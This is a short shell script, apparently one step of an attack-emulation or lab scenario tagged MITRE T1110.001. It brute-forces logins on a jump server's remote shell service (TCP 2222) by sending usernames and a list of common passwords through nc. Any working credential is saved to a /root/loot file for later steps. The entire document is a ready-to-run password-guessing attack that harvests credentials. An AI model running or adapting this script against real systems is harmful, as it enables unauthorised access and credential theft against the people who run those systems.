# T1110.001: guess passwords of the jump server's remote logins (remshd, TCP 2222).
# Succeeds (exit 0) when a guess signs in; the password is kept for the next steps.
for user in operator admin; do
  for p in 123456 password admin operator qwerty letmein welcome rahasia operator1 \
      operator2024 operator123 P@ssw0rd; do
    out=$(printf '%s\n%s\nid -un\n' "$user" "$p" | nc -w 5 jump 2222 2>&1)
    case "$out" in
      *Welcome*)
        mkdir -p /root/loot && printf '%s %s\n' "$user" "$p" > /root/loot/jump
        echo "signed in to jump as $user with password $p"
        exit 0 ;;
      "") echo "jump does not answer on 2222"; exit 1 ;;
    esac
  done
done
echo "no guess signs in"
exit 1
